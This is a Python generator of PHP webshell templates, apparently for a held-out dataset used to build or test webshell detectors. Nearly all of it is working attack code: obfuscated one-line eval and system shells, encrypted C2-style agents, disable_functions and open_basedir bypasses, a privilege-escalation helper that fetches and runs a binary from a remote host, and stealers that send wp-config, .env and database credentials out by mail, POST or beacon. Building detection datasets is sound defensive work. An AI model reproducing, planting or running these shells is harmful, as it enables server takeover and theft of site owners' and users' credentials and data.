"""Webshell templates of the fourth held-out set (README.md). Each template
takes (r, S) and returns either a PHP body (no open tag; common4.place() puts
it in a container) or a list of (rel, text, lang) files. Written blind."""

import base64
import zlib

from common4 import conceal, dom, hexname, host, inp, ip, rword, sq


def _c(r, S, s):
    pre, e = conceal(r, S, s)
    return pre, e


def _var(S):
    return S.var()


def _callee(r):
    return r.choice(("system", "passthru", "shell_exec", "assert", "exec", "popen_cmd"))


def _run_expr(r, S, fvar, arg):
    """A call of the callee in fvar on arg; popen needs a mode."""
    return "%s(%s)" % (fvar, arg)


def _callee_stmts(r, S):
    f = r.choice(("system", "passthru", "assert", "shell_exec"))
    pre, e = _c(r, S, f)
    v = _var(S)
    return pre + ["%s = %s;" % (v, e)], v, f


# ---- one-word shells: the callee and the input hidden, sinks by callback


def oneword_array_cb(r, S):
    pre, f, name = _callee_stmts(r, S)
    x = inp(r, S)
    a = _var(S)
    k = r.choice(("walk_rec", "udiff", "uintersect", "diff_ukey", "map_keys", "ukey"))
    if k == "walk_rec":
        sink = ["%s = [[%s]];" % (a, x), "%s(%s, %s);" % (S.fn("array_walk_recursive"), a, f)]
    elif k == "udiff":
        sink = ["%s([%s], [1], %s);" % (S.fn("array_udiff"), x, f)]
    elif k == "uintersect":
        sink = ["%s([%s], [%s], %s);" % (S.fn("array_uintersect"), x, sq(""), f)]
    elif k == "diff_ukey":
        sink = ["%s([%s => 1], ['' => 1], %s);" % (S.fn("array_diff_ukey"), x, f)]
    elif k == "map_keys":
        sink = ["%s(%s, %s([%s => 0]));" % (S.fn("array_map"), f, S.fn("array_keys"), x)]
    else:
        sink = ["%s = [%s => 1, %s => 2];" % (a, x, sq(rword(r, 3))), "%s(%s, %s);" % (S.fn("uksort"), a, f)]
    return S.lines(pre + sink)


def oneword_regex_cb(r, S):
    pre, f, name = _callee_stmts(r, S)
    x = inp(r, S)
    k = r.choice(("pcb_array", "mb_cb", "pcb_closure"))
    if k == "pcb_array":
        sink = ["%s(['/.+/s' => function ($m) use (%s) { return %s($m[0]); }], %s);" % (S.fn("preg_replace_callback_array"), f, f, x)]
    elif k == "mb_cb":
        sink = ["%s('.+', function ($m) use (%s) { return (string) %s($m[0]); }, %s);" % (S.fn("mb_ereg_replace_callback"), f, f, x)]
    else:
        sink = ["%s('~^(.*)$~s', %s, %s);" % (S.fn("preg_replace_callback"), "fn($m) => %s($m[1])" % f, x)]
    return S.lines(pre + sink)


def oneword_spl_cb(r, S):
    pre, f, name = _callee_stmts(r, S)
    x = inp(r, S)
    it = _var(S)
    k = r.choice(("cbfilter", "fiber", "heap", "arrobj", "gen"))
    if k == "cbfilter":
        sink = ["%s = new CallbackFilterIterator(new ArrayIterator([%s]), %s);" % (it, x, f),
                "foreach (%s as $_) {}" % it]
    elif k == "fiber":
        sink = ["%s = new Fiber(%s);" % (it, f), "%s->start(%s);" % (it, x)]
    elif k == "heap":
        cls = "C" + hexname(r, 5)
        sink = ["class %s extends SplMinHeap { public $f; protected function compare($a, $b): int { ($this->f)($a); return 0; } }" % cls,
                "%s = new %s; %s->f = %s;" % (it, cls, it, f), "%s->insert(%s); %s->insert(%s);" % (it, x, it, x)]
    elif k == "arrobj":
        sink = ["%s = new ArrayObject([%s, %s]);" % (it, x, sq("")),
                "%s->uasort(function ($a, $b) use (%s) { if ($a !== '') { %s($a); } return 0; });" % (it, f, f)]
    else:
        sink = ["%s = (function () { $v = yield; while (true) { $v = yield $v; } })();" % it,
                "%s->current(); %s(%s->send(%s));" % (it, f, it, x)]
    return S.lines(pre + sink)


def oneword_engine_cb(r, S):
    pre, f, name = _callee_stmts(r, S)
    x = inp(r, S)
    v = _var(S)
    k = r.choice(("tick", "xml", "sqlite", "pdo", "assert_cb"))
    if k == "tick":
        sink = ["declare(ticks=1);", "%s = %s;" % (v, x), "%s(%s, %s);" % (S.fn("register_tick_function"), f, v),
                "%s(%s);" % (S.fn("unregister_tick_function"), f)]
    elif k == "xml":
        sink = ["%s = %s();" % (v, S.fn("xml_parser_create")),
                "%s(%s, function ($p, $d) use (%s) { %s($d); });" % (S.fn("xml_set_character_data_handler"), v, f, f),
                "%s(%s, '<a>' . %s(%s) . '</a>', true);" % (S.fn("xml_parse"), v, S.fn("htmlspecialchars"), x)]
    elif k == "sqlite":
        sink = ["%s = new SQLite3(':memory:');" % v, "%s->createFunction('x', %s, 1);" % (v, f),
                "%s->querySingle('SELECT x(' . %s->escapeString(%s) . ')');" % (v, v, x) if False else
                "%s->querySingle(\"SELECT x('\" . SQLite3::escapeString(%s) . \"')\");" % (v, x)]
    elif k == "pdo":
        sink = ["%s = new PDO('sqlite::memory:');" % v, "%s->sqliteCreateFunction('y', %s, 1);" % (v, f),
                "%s->query('SELECT y(' . %s->quote(%s) . ')');" % (v, v, x)]
    else:
        sink = ["@%s(ASSERT_ACTIVE, 1); @%s(ASSERT_WARNING, 0);" % (S.fn("assert_options"), S.fn("assert_options")),
                "@%s(ASSERT_CALLBACK, function ($file, $line, $c, $d = null) use (%s) { %s($d); });" % (S.fn("assert_options"), f, f),
                "@%s(false, %s);" % (S.fn("assert"), x)]
    return S.lines(pre + sink)


def oneword_tiny(r, S):
    """The classic tiny shells, in the shapes collections carry by the hundred."""
    k = r.choice(("eval_post", "assert_var", "get_get", "str_func", "preg_e", "create_fn", "dollar_brace", "array_call"))
    p = rword(r, r.randint(1, 5), "abcdefghijklmnopqrstuvwxyz0123456789")
    if k == "eval_post":
        return "@eval($_POST[%s]);" % sq(p)
    if k == "assert_var":
        pre, e = _c(r, S, "assert")
        v = _var(S)
        return S.lines(pre + ["%s = %s;" % (v, e), "@%s($_REQUEST[%s]);" % (v, sq(p))])
    if k == "get_get":
        return "@$_GET[%s]($_GET[%s]);" % (sq(p), sq(p + "x"))
    if k == "str_func":
        v = _var(S)
        return S.lines(["%s = str_replace('x', '', 'axsxsxexrxt');" % v, "%s(${'_P' . 'OST'}[%s]);" % (v, sq(p))])
    if k == "preg_e":
        return "@preg_replace('/ad/e', '@'.str_rot13('riny').'($_POST[%s])', 'add');" % p
    if k == "create_fn":
        pre, e = _c(r, S, "create_function")
        v = _var(S)
        return S.lines(pre + ["%s = %s;" % (v, e), "$g = @%s('', $_POST[%s]);" % (v, sq(p)), "@$g();"])
    if k == "dollar_brace":
        return "@${'_' . 'GET'}[%s](${'_' . 'POST'}[%s]);" % (sq(p), sq(p))
    return "@call_user_func_array($_POST[%s], [$_POST[%s]]);" % (sq(p + "f"), sq(p + "a"))


def callee_from_input(r, S):
    x = inp(r, S, "f")
    y = "$_POST[%s]" % sq(rword(r, 2, "abcdefghij"))
    k = r.choice(("direct", "map", "static", "invoke"))
    fv = _var(S)
    if k == "direct":
        return S.lines(["%s = %s;" % (fv, x), "if (%s) { echo @%s(%s); }" % (fv, fv, y)])
    if k == "map":
        return S.lines(["%s = %s;" % (fv, x), "print_r(@%s(%s, [%s]));" % (S.fn("array_map"), fv, y)])
    if k == "static":
        return S.lines(["%s = [%s, 'invoke'];" % (fv, "new ReflectionFunction(%s)" % x), "echo %s(%s);" % (fv, y)])
    return S.lines(["%s = new ReflectionFunction(%s);" % (fv, x), "echo %s->invoke(%s);" % (fv, y)])


def unicode_idents(r, S):
    """Variable and function names in Chinese / odd Unicode letters."""
    names = ["$\u5bc6\u7801", "$\u547d\u4ee4", "$\u51fd\u6570", "$\u00e6\u00f8", "$\u0434\u0430\u043d\u043d\u044b\u0435", "$\u2160\u2161"]
    r.shuffle(names)
    a, b, c = names[:3]
    pre, e = _c(r, S, r.choice(("system", "assert", "passthru")))
    fn = "\u6267\u884c" + rword(r, 2, "abc")
    return S.lines(pre + ["%s = %s;" % (a, e), "%s = %s;" % (b, inp(r, S)),
                          "function %s($\u53c2, $\u503c) { return $\u53c2($\u503c); }" % fn,
                          "%s = %s(%s, %s);" % (c, fn, a, b)])


def nonalnum(r, S):
    """A callee built from XOR of non-alphanumeric characters only."""
    def xorpair(s):
        a, b = [], []
        for ch in s:
            for x in range(33, 127):
                y = ord(ch) ^ x
                cx, cy = chr(x), chr(y)
                if 33 <= y < 127 and not cx.isalnum() and not cy.isalnum() and cx not in "'\\$" and cy not in "'\\$":
                    a.append(cx)
                    b.append(cy)
                    break
            else:
                raise ValueError(ch)
        return "('" + "".join(a) + "'^'" + "".join(b) + "')"
    f = r.choice(("assert", "system"))
    src = r.choice(("_POST", "_GET", "_REQUEST"))
    v1 = "$" + "_" * r.randint(1, 3)
    v2 = "$" + "_" * r.randint(4, 6)
    return "%s=%s;%s=%s;%s(${%s}[%s]);" % (v1, xorpair(f), v2, xorpair(src), v1, v2, sq("_" * r.randint(1, 3)))


def heredoc_blob(r, S):
    code = "@system(%s);" % inp(r, S) if r.random() < 0.5 else "@eval(%s);" % inp(r, S)
    enc = base64.b64encode(code[::-1].encode()).decode()
    lines = [enc[i:i + 60] for i in range(0, len(enc), 60)]
    v = _var(S)
    tag = r.choice(("EOT", "DATA", "_X", "TPL"))
    run = "eval(%s(%s(%s(\"\\n\", '', %s))));"
    return "%s = <<<'%s'\n%s\n%s;\n" % (v, tag, "\n".join(lines), tag) + run % (S.fn("strrev"), S.fn("base64_decode"), S.fn("str_replace"), v)


def include_stream(r, S):
    x = inp(r, S)
    k = r.choice(("data_b64", "memory", "wrapper"))
    v = _var(S)
    if k == "data_b64":
        return S.lines(["%s = 'data://text/plain;base64,' . %s(%s);" % (v, S.fn("base64_encode"), "'<?php ' . " + x),
                        "@include %s;" % v])
    if k == "memory":
        h = _var(S)
        return S.lines(["%s = 'php://te' . 'mp';" % v, "%s = %s(%s, 'w+');" % (h, S.fn("fopen"), v),
                        "%s(%s, '<?php ' . %s);" % (S.fn("fwrite"), h, x),
                        "%s = %s(%s)['uri'];" % (v, S.fn("stream_get_meta_data"), h),
                        "%s = %s() . '/' . %s(%s);" % (v, S.fn("sys_get_temp_dir"), S.fn("md5"), x),
                        "%s(%s, '<?php ' . %s); @include %s; @%s(%s);" % (S.fn("file_put_contents"), v, x, v, S.fn("unlink"), v)])
    cls = "W" + hexname(r, 5)
    proto = rword(r, 4, "abcdefghijklmnop")
    return S.lines(["class %s { public $context; private $d; private $p = 0;" % cls,
                    "  function stream_open($path, $mode, $o, &$op) { $this->d = '<?php ' . %s(%s(%s($path, %d))); return true; }" % (
                        S.fn("base64_decode"), S.fn("rawurldecode"), S.fn("substr"), len(proto) + 3),
                    "  function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += strlen($r); return $r; }",
                    "  function stream_eof() { return $this->p >= strlen($this->d); }",
                    "  function stream_stat() { return []; }",
                    "  function stream_set_option($o, $a, $b) { return false; } }",
                    "%s(%s, %s);" % (S.fn("stream_wrapper_register"), sq(proto), sq(cls)),
                    "include %s . %s(%s(%s));" % (sq(proto + "://"), S.fn("rawurlencode"), S.fn("base64_encode"), x)])


def session_id_payload(r, S):
    v = _var(S)
    return S.lines(["@%s();" % S.fn("session_start"), "%s = %s(%s());" % (v, S.fn("hex2bin"), S.fn("session_id")),
                    "if (%s && %s(%s, 0, 2) === '#!') { @eval(%s(%s, 2)); }" % (v, S.fn("substr"), v, S.fn("substr"), v)])


# ---- encrypted-traffic agents in the style of C2 frameworks' PHP agents


def aes_session_agent(r, S):
    key = hexname(r, 16)
    k, b, d = _var(S), _var(S), _var(S)
    cls = "C" + hexname(r, 4)
    return S.lines(["@error_reporting(0);", "@session_start();",
                    "%s = %s;" % (k, sq(key)), "$_SESSION[%s] = %s;" % (sq(rword(r, 1, "kxz")), k),
                    "%s = %s('php://input');" % (b, S.fn("file_get_contents")),
                    "if (!%s('openssl')) {" % S.fn("extension_loaded"),
                    "    %s = %s(%s);" % (b, S.fn("base64_decode"), b),
                    "    for ($i = 0; $i < strlen(%s); $i++) { %s[$i] = %s[$i] ^ %s[($i + 1) & 15]; }" % (b, b, b, k),
                    "} else {",
                    "    %s = %s(%s, %s, %s);" % (b, S.fn("openssl_decrypt"), b, sq(r.choice(("AES128", "aes-128-ecb", "AES-128-ECB"))), k),
                    "}",
                    "%s = %s('|', %s, 2);" % (d, S.fn("explode"), b),
                    "class %s { public function __invoke($p) { eval($p . ''); } }" % cls,
                    "@%s(new %s(), isset(%s[1]) ? %s[1] : '');" % (S.fn("call_user_func"), cls, d, d)])


def xor_session_payload(r, S):
    key = hexname(r, 16)
    pw = rword(r, r.randint(3, 6), "abcdefghijklmnopqrstuvwxyz")
    pn = rword(r, 7, "abcdefghijklmnopqrstuvwxyz")
    mark = rword(r, 10, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ")
    fx = "x" + hexname(r, 4)
    return S.lines(["@session_start(); @set_time_limit(0); @error_reporting(0);",
                    "function %s($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i] ^ $c; } return $D; }" % fx,
                    "$p = %s; $n = %s; $k = %s;" % (sq(pw), sq(pn), sq(key)),
                    "if (isset($_POST[$p])) {",
                    "    $data = %s(base64_decode($_POST[$p]), $k);" % fx,
                    "    if (isset($_SESSION[$n])) {",
                    "        $payload = %s($_SESSION[$n], $k);" % fx,
                    "        if (strpos($payload, %s) === false) { $payload = %s($payload, $k); }" % (sq(mark), fx),
                    "        eval($payload);",
                    "        echo substr(md5($p . $k), 0, 16); echo base64_encode(%s(@run($data), $k)); echo substr(md5($p . $k), 16);" % fx,
                    "    } else {",
                    "        if (strpos($data, %s) !== false) { $_SESSION[$n] = %s($data, $k); }" % (sq(mark), fx),
                    "    }",
                    "}"])


def encoder_param(r, S):
    """An agent whose request names its own decoder (base64/rot13/hex) and strips a random prefix."""
    p = rword(r, r.randint(2, 5), "abcdefghijklmnopqrstuvwxyz")
    n = r.randint(2, 6)
    v, w = _var(S), _var(S)
    return S.lines(["%s = @$_POST[%s];" % (v, sq(p)),
                    "%s = %s(@$_POST[%s . '_e'] ?: 'b');" % (w, S.fn("strval"), sq(p)),
                    "%s = %s(%s, %d);" % (v, S.fn("substr"), v, n),
                    "if (%s === 'r') { %s = %s(%s); } elseif (%s === 'h') { %s = %s(%s); }" % (w, v, S.fn("str_rot13"), v, w, v, S.fn("hex2bin"), v),
                    "%s = %s(%s);" % (v, S.fn("base64_decode"), v),
                    "@eval(%s);" % v])


def pubkey_cmd(r, S):
    """Commands accepted only when signed by the operator's key (no password in the file)."""
    pem = "-----BEGIN PUBLIC KEY-----\n" + "\n".join(base64.b64encode(bytes(r.randint(0, 255) for _ in range(48))).decode() for _ in range(3)) + "\n-----END PUBLIC KEY-----"
    v, o = _var(S), _var(S)
    pem = '"' + pem.replace("\n", "\\n") + '"'
    return S.lines(["%s = %s;" % (v, pem),
                    "if (@%s(%s(%s), %s, %s)) {" % (S.fn("openssl_public_decrypt"), S.fn("base64_decode"), inp(r, S), o, v),
                    "    @eval(%s);" % o, "}"])


# ---- disable_functions / open_basedir toolkits, privilege helpers


def df_probe_runner(r, S):
    c = inp(r, S, "c")
    return S.lines(["$df = array_map('trim', explode(',', (string) @ini_get('disable_functions')));",
                    "$c = %s;" % c, "$out = '';",
                    "foreach (['shell_exec', 'exec', 'system', 'passthru', 'popen', 'proc_open', 'pcntl_exec'] as $f) {",
                    "    if (!function_exists($f) || in_array($f, $df, true)) { continue; }",
                    "    switch ($f) {",
                    "        case 'exec': exec($c, $o); $out = implode(\"\\n\", $o); break;",
                    "        case 'system': case 'passthru': ob_start(); $f($c); $out = ob_get_clean(); break;",
                    "        case 'popen': $h = popen($c, 'r'); $out = stream_get_contents($h); pclose($h); break;",
                    "        case 'proc_open': $p = proc_open($c, [1 => ['pipe', 'w']], $pp); $out = stream_get_contents($pp[1]); proc_close($p); break;",
                    "        case 'pcntl_exec': pcntl_exec('/bin/sh', ['-c', $c]); break;",
                    "        default: $out = $f($c);",
                    "    }",
                    "    break;", "}", "echo '<pre>' . htmlspecialchars($out) . '</pre>';"])


def gconv_bypass(r, S):
    d = "/tmp/." + hexname(r, 6)
    so = base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(r.randint(0, 255) for _ in range(90))).decode()
    return S.lines(["$d = %s; @mkdir($d);" % sq(d),
                    "file_put_contents($d . '/gconv-modules', \"module  PAYLOAD//    INTERNAL    ../../../../../../..%s/payload    2\\nmodule  INTERNAL    PAYLOAD//    ../../../../../../..%s/payload    2\\n\");" % (d, d),
                    "file_put_contents($d . '/payload.so', base64_decode(%s));" % sq(so),
                    "file_put_contents($d . '/cmd', %s);" % inp(r, S),
                    "putenv('GCONV_PATH=' . $d . '/');",
                    "@iconv('payload', 'UTF-8', 'x');",
                    "echo @file_get_contents($d . '/out');"])


def basedir_escape(r, S):
    return S.lines(["$t = %s;" % inp(r, S, "d"),
                    "@mkdir('x'); @chdir('x'); @ini_set('open_basedir', '..');",
                    "for ($i = 0; $i < 12; $i++) { @chdir('..'); }", "@ini_set('open_basedir', '/');",
                    "if (is_dir($t)) { foreach (new DirectoryIterator('glob://' . rtrim($t, '/') . '/*') as $f) { echo $f->getFilename(), \"\\n\"; } }",
                    "else { echo @file_get_contents($t); }"])


def cgi_handler_drop(r, S):
    ext = r.choice(("dizzy", "xx", "cgix", "pl7", "sh0"))
    name = hexname(r, 6) + "." + ext
    return S.lines(["$d = %s(__FILE__) . '/' . %s;" % (S.fn("dirname"), sq("cgi" + hexname(r, 3))), "@mkdir($d, 0755);",
                    "@file_put_contents($d . '/.htaccess', \"Options +ExecCGI\\nAddHandler cgi-script .%s\\n\");" % ext,
                    "@file_put_contents($d . '/%s', \"#!/bin/sh\\necho 'Content-type: text/plain'\\necho\\n\" . %s . \"\\n\");" % (name, inp(r, S)),
                    "@chmod($d . '/%s', 0755);" % name,
                    "echo @file_get_contents((@$_SERVER['HTTPS'] ? 'https' : 'http') . '://' . $_SERVER['HTTP_HOST'] . dirname($_SERVER['SCRIPT_NAME']) . '/' . basename($d) . '/%s');" % name])


def privesc_helper(r, S):
    url = "http://%s/%s" % (host(r), hexname(r, 6))
    return S.lines(["header('Content-Type: text/plain');",
                    "echo php_uname(), \"\\n\", @file_get_contents('/proc/version');",
                    "echo @shell_exec('id; sudo -n -l 2>&1; find / -perm -4000 -type f 2>/dev/null | head -50');",
                    "echo @shell_exec('ls -la /etc/cron* /etc/sudoers.d 2>&1; cat /etc/issue');",
                    "if (isset($_GET['x'])) {",
                    "    $b = '/tmp/.' . substr(md5(__FILE__), 0, 6);",
                    "    @file_put_contents($b, @file_get_contents(%s . '/' . basename($_GET['x'])));" % sq(url),
                    "    @chmod($b, 0755);", "    echo @shell_exec($b . ' 2>&1');", "}"])


# ---- readers and exfiltration


def config_stealer(r, S):
    out = r.choice(("echo", "mail", "post"))
    tail = {"echo": "echo '<textarea cols=120 rows=40>' . htmlspecialchars($res) . '</textarea>';",
            "mail": "@mail(%s, 'cfg ' . $_SERVER['HTTP_HOST'], $res);" % sq("drop%d@%s" % (r.randint(1, 99), dom(r))),
            "post": "@file_get_contents('http://%s/c.php', false, stream_context_create(['http' => ['method' => 'POST', 'header' => 'Content-Type: application/x-www-form-urlencoded', 'content' => http_build_query(['h' => $_SERVER['HTTP_HOST'], 'd' => $res])]]));" % host(r)}[out]
    return S.lines(["$res = '';",
                    "foreach (@file('/etc/passwd') ?: [] as $l) {",
                    "    $u = explode(':', $l); if (count($u) < 6 || strpos($u[5], '/home') !== 0) { continue; }",
                    "    foreach (['/public_html/wp-config.php', '/public_html/configuration.php', '/public_html/app/etc/env.php', '/public_html/.env', '/.my.cnf', '/.accesshash'] as $f) {",
                    "        $c = @file_get_contents($u[5] . $f);",
                    "        if ($c !== false && preg_match_all(\"/(DB_(?:NAME|USER|PASSWORD|HOST)|password|\\\\$user|\\\\$password|'username')['\\\"]?[^\\n]{0,80}/i\", $c, $m)) {",
                    "            $res .= '== ' . $u[0] . $f . \"\\n\" . implode(\"\\n\", $m[0]) . \"\\n\";",
                    "        }", "    }", "}", tail])


def db_dumper(r, S):
    return S.lines(["@set_time_limit(0);",
                    "$h = @$_POST['h'] ?: 'localhost'; $u = @$_POST['u']; $p = @$_POST['p']; $n = @$_POST['n'];",
                    "if (!$u) { echo '<form method=post>host <input name=h> user <input name=u> pass <input name=p> db <input name=n> <input type=submit value=dump></form>'; exit; }",
                    "$db = @new mysqli($h, $u, $p, $n); if ($db->connect_errno) { die($db->connect_error); }",
                    "header('Content-Type: application/octet-stream');",
                    "header('Content-Disposition: attachment; filename=\"' . $n . '_' . date('Ymd') . '.sql.gz\"');",
                    "ob_start('ob_gzhandler');",
                    "foreach ($db->query('SHOW TABLES')->fetch_all() as $t) {",
                    "    $t = $t[0]; echo \"DROP TABLE IF EXISTS `$t`;\\n\", $db->query(\"SHOW CREATE TABLE `$t`\")->fetch_row()[1], \";\\n\";",
                    "    $q = $db->query(\"SELECT * FROM `$t`\", MYSQLI_USE_RESULT);",
                    "    while ($row = $q->fetch_row()) { echo \"INSERT INTO `$t` VALUES('\" . implode(\"','\", array_map([$db, 'real_escape_string'], $row)) . \"');\\n\"; }",
                    "}"])


def backup_grabber(r, S):
    return S.lines(["@set_time_limit(0); $hits = [];",
                    "foreach (glob('/home/*/{public_html,backups,www}', GLOB_BRACE | GLOB_ONLYDIR) ?: [] as $d) {",
                    "    $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($d, FilesystemIterator::SKIP_DOTS));",
                    "    foreach ($it as $f) { if (preg_match('/\\.(sql|sql\\.gz|tar\\.gz|tgz|zip|bak|wpress)$/i', $f->getFilename()) && $f->getSize() > 4096) { $hits[] = $f->getPathname(); } }",
                    "}",
                    "if (isset($_GET['g']) && in_array($_GET['g'], $hits, true)) {",
                    "    header('Content-Type: application/octet-stream'); header('Content-Length: ' . filesize($_GET['g']));",
                    "    readfile($_GET['g']); exit;", "}",
                    "foreach ($hits as $h) { echo '<a href=\"?g=' . urlencode($h) . '\">' . htmlspecialchars($h) . '</a><br>'; }"])


def wpconfig_beacon(r, S):
    return S.lines(["if (!defined('DB_PASSWORD')) { @include_once dirname(__FILE__) . '/wp-config.php'; }",
                    "if (defined('DB_PASSWORD') && !@file_exists(sys_get_temp_dir() . '/.wpc_' . md5(DB_NAME))) {",
                    "    @touch(sys_get_temp_dir() . '/.wpc_' . md5(DB_NAME));",
                    "    $q = base64_encode(json_encode([DB_HOST, DB_NAME, DB_USER, DB_PASSWORD, @$_SERVER['HTTP_HOST'], defined('AUTH_KEY') ? AUTH_KEY : '']));",
                    "    @file_get_contents('https://%s/i.gif?d=' . rawurlencode(strrev($q)));" % host(r), "}"])


# ---- 2000s-style file managers and uploaders


def legacy_fm(r, S):
    """register_globals-era mini file manager: $HTTP_POST_FILES, short tags, <?= ."""
    t = r.choice(("File Manager", "Mini FM", "Upl0ad", "Priv8 Panel"))
    body = """<?
error_reporting(0);
if (!isset($dir)) { $dir = $HTTP_GET_VARS['dir'] ? $HTTP_GET_VARS['dir'] : getcwd(); }
if ($HTTP_POST_FILES['userfile']['name'] != "") {
    copy($HTTP_POST_FILES['userfile']['tmp_name'], $dir . "/" . $HTTP_POST_FILES['userfile']['name']);
}
if ($delfile) { unlink($delfile); }
if ($cmd) { $result = `$cmd`; }
if ($savefile && $filecontent) { $fp = fopen($savefile, "w"); fputs($fp, stripslashes($filecontent)); fclose($fp); }
?>
<html><head><title>%(t)s</title>
<style>body{background:#000;color:#0f0;font:11px Verdana} td{border:1px solid #333}</style></head>
<body>
<b>%(t)s</b> | <?=php_uname()?> | uid: <?=getmyuid()?> | safe_mode: <?=ini_get('safe_mode') ? 'ON' : 'OFF'?><br>
<form method="POST" enctype="multipart/form-data" action="<?=$PHP_SELF?>?dir=<?=urlencode($dir)?>">
<input type="file" name="userfile"> <input type="submit" value="Upload"></form>
<form method="POST" action="<?=$PHP_SELF?>?dir=<?=urlencode($dir)?>">cmd: <input name="cmd" size=60 value="<?=htmlspecialchars($cmd)?>"> <input type=submit value="Go"></form>
<pre><?=htmlspecialchars($result)?></pre>
<table>
<?
$h = opendir($dir);
while (($f = readdir($h)) !== false) {
    $p = $dir . "/" . $f;
?>
<tr><td><a href="<?=$PHP_SELF?>?dir=<?=urlencode($p)?>"><?=$f?></a></td><td><?=@filesize($p)?></td><td><?=substr(sprintf('%%o', @fileperms($p)), -4)?></td>
<td><a href="<?=$PHP_SELF?>?dir=<?=urlencode($dir)?>&delfile=<?=urlencode($p)?>">del</a> <a href="<?=$PHP_SELF?>?dir=<?=urlencode($dir)?>&edit=<?=urlencode($p)?>">edit</a></td></tr>
<? } closedir($h); ?>
</table>
<? if ($edit) { ?>
<form method=POST><input type=hidden name=savefile value="<?=$edit?>"><textarea name=filecontent cols=100 rows=25><?=htmlspecialchars(join('', file($edit)))?></textarea><br><input type=submit value=Save></form>
<? } ?>
</body></html>
""" % dict(t=t)
    rel = r.choice(("images/stories/", "tmp/", "wp-content/uploads/", "forum/files/", "")) + r.choice(("up.php", "fm.php", "x.php", "index2.php", "img.php", hexname(r, 5) + ".php"))
    return [(rel, body, "php")]


def legacy_uploader(r, S):
    pw = rword(r, 6)
    body = """<?
// <%% upload %%>
if ($pass != "%(pw)s") { echo "<form method=post><input type=password name=pass><input type=submit></form>"; exit; }
if (isset($HTTP_POST_FILES["f"])) {
    $n = $HTTP_POST_FILES["f"]["name"];
    if (@move_uploaded_file($HTTP_POST_FILES["f"]["tmp_name"], "./" . $n) || @copy($f, "./" . $f_name)) {
        echo "<b>OK</b>: <a href=\\"$n\\">$n</a>";
    } else { echo "failed"; }
}
?>
<form enctype="multipart/form-data" method="post"><input type=hidden name=pass value="<?=$pass?>">
<input type="file" name="f"><input type="submit" value="send"></form>
""" % dict(pw=pw)
    rel = r.choice(("", "images/", "uploads/", "admin/editor/")) + r.choice(("upload.php", "u.php", "send.php", "img_up.php3", "files.inc.php"))
    return [(rel, body, "php")]


def chunked_uploader(r, S):
    k = hexname(r, 8)
    return S.lines(["if (@$_SERVER['HTTP_X_UPLOAD_KEY'] !== %s) { http_response_code(404); exit; }" % sq(k),
                    "$n = basename((string) @$_POST['n']); $t = sys_get_temp_dir() . '/' . md5($n);",
                    "file_put_contents($t, base64_decode((string) @$_POST['c']), FILE_APPEND);",
                    "if (!empty($_POST['done'])) { rename($t, __DIR__ . '/' . $n); echo 'ok ', $n; }"])


TEMPLATES = [
    ("oneword_array_cb", oneword_array_cb, 8),
    ("oneword_regex_cb", oneword_regex_cb, 6),
    ("oneword_spl_cb", oneword_spl_cb, 7),
    ("oneword_engine_cb", oneword_engine_cb, 7),
    ("oneword_tiny", oneword_tiny, 10),
    ("callee_from_input", callee_from_input, 5),
    ("unicode_idents", unicode_idents, 4),
    ("nonalnum_xor", nonalnum, 4),
    ("heredoc_blob", heredoc_blob, 3),
    ("include_stream", include_stream, 6),
    ("session_id_payload", session_id_payload, 3),
    ("aes_session_agent", aes_session_agent, 6),
    ("xor_session_payload", xor_session_payload, 5),
    ("encoder_param", encoder_param, 4),
    ("pubkey_cmd", pubkey_cmd, 3),
    ("df_probe_runner", df_probe_runner, 5),
    ("gconv_bypass", gconv_bypass, 3),
    ("basedir_escape", basedir_escape, 4),
    ("cgi_handler_drop", cgi_handler_drop, 4),
    ("privesc_helper", privesc_helper, 4),
    ("config_stealer", config_stealer, 5),
    ("db_dumper", db_dumper, 4),
    ("backup_grabber", backup_grabber, 3),
    ("wpconfig_beacon", wpconfig_beacon, 4),
    ("legacy_fm", legacy_fm, 4),
    ("legacy_uploader", legacy_uploader, 4),
    ("chunked_uploader", chunked_uploader, 3),
]
